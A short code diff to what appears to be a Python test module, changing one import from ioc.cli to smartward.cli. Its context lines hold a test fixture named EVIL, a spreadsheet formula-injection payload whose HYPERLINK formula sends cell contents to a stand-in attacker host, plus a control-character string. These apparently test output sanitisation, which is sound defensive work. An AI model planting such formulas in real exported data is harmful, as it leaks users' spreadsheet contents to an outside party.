@@ -17,9 +17,9 @@ from psycopg_pool import ConnectionPool
 
 from dashboards.app import create_app
 from ioc import safetext
-from ioc.cli import main
 from ioc.config import Settings
 from ioc.security import keys
+from smartward.cli import main
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Xem ảnh")'
 CONTROL = "Cống tắc\x01 nước\x0b tràn ra đường"
